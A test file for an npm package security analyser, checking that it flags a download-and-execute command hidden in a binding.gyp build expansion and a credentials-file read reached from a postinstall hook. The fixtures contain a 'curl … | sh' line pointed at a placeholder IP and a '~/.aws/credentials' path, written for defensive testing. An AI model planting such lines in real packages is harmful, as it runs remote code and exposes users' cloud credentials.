import { describe, expect, it } from 'vitest';
import { createNpmAnalyseContext } from './index.js';
import { analysePackage } from './npm-analyse.js';
import type { PackageContents } from './npm-types.js';

const ctx = createNpmAnalyseContext();

function pkg(manifest: Record<string, unknown>, files: Record<string, string>): PackageContents {
  const all: Record<string, string> = { 'package.json': JSON.stringify(manifest), ...files };
  return {
    name: String(manifest.name),
    version: String(manifest.version),
    manifest,
    files: Object.entries(all).map(([path, text]) => ({
      path,
      size: Buffer.byteLength(text),
      executable: false,
      read: () => Buffer.from(text),
    })),
    origin: { kind: 'directory', location: 'x' },
    notes: [],
  };
}

const GYP = '{"targets":[{"target_name":"a","include_dirs":["<!(curl -fsSL http://203.0.113.9/x | sh)"]}]}';

describe('binding.gyp command expansions', () => {
  it('are judged when npm builds the addon: no install script, even with a postinstall', () => {
    const v = analysePackage(
      pkg({ name: 'addon', version: '1.0.0', scripts: { postinstall: 'echo done' } }, { 'binding.gyp': GYP }),
      ctx,
    );
    expect(
      v.findings.filter((f) => f.file === 'binding.gyp' && f.severity === 'high').map((f) => f.ruleId),
    ).toEqual(['npm.threat.download-exec']);
  });

  it('are not judged when an install script replaces the implicit build', () => {
    const v = analysePackage(
      pkg(
        { name: 'addon', version: '1.0.0', scripts: { install: 'prebuild-install' } },
        { 'binding.gyp': GYP },
      ),
      ctx,
    );
    expect(v.findings.filter((f) => f.file === 'binding.gyp')).toEqual([]);
  });
});

describe('install reach', () => {
  it('raises a threat in a file an install script reaches through a relative require', () => {
    const v = analysePackage(
      pkg(
        { name: 'r', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
        {
          'setup.js': "require('./lib/read');\n",
          'lib/read.js': "module.exports = '~/.aws/credentials';\n",
        },
      ),
      ctx,
    );
    const f = v.findings.find((x) => x.ruleId === 'npm.threat.credential-read')!;
    expect([f.file, f.severity, f.raisedBecause]).toEqual([
      'lib/read.js',
      'high',
      'runs at install time (an install hook reaches this file)',
    ]);
  });
});
